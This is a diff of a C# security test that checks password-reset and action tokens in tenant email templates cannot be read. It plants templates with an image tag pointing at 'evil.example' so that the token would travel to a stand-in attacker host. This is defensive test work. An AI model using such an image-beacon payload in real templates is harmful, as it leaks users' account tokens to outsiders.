@@ -169,18 +169,19 @@ public sealed class SecurityMailTests(SharedService shared) : IClassFixture<Shar
     public async Task The_token_of_a_security_mail_is_on_no_path_by_which_anybody_reads()
     {
         var (slug, id, admin) = await service.NewTenant();
-        foreach (var name in Security)
+        var tokens = new List<string>();
+        // As a tenant may have them from before: the link in every text. And as they are written today.
+        foreach (var place in new[] { "{{ link }}", "{{ action }}" })
         {
-            // As a tenant may have them from before: the link in every text. And as they are written today.
-            foreach (var place in new[] { "{{ link }}", "{{ action }}" })
+            foreach (var name in Security)
                 await Plant(id, name, $"At {{{{ tenant_name }}}} {place}", $"See {place}", $"<p>{place}</p><img src=\"https://evil.example/{place}\">", replace: true);
+            tokens.AddRange(await Sent(slug, admin));
         }
-        await Sent(slug, admin);
         await service.Sql($"DELETE FROM notification_templates WHERE tenant_id = '{id}'");
         foreach (var name in Security)
             await admin.Post("notifications/templates", new { name, type = "email", subject = "At {{ tenant_name }}", body = "{{ action }}", html_body = "<p>{{ action }}</p>" });
-        var tokens = await Sent(slug, admin);
-        tokens.Count.ShouldBeGreaterThanOrEqualTo(3);
+        tokens.AddRange(await Sent(slug, admin));
+        tokens.Distinct(StringComparer.Ordinal).Count().ShouldBeGreaterThanOrEqualTo(8); // three of each round, but for the third reset: its pause lasts
         // Rows as a version before wrote them, in every state.
         var states = new[] { "queued", "sent", "delivered", "bounced", "complained", "suppressed", "failed", "cancelled" };
         for (var i = 0; i < states.Length; i++)
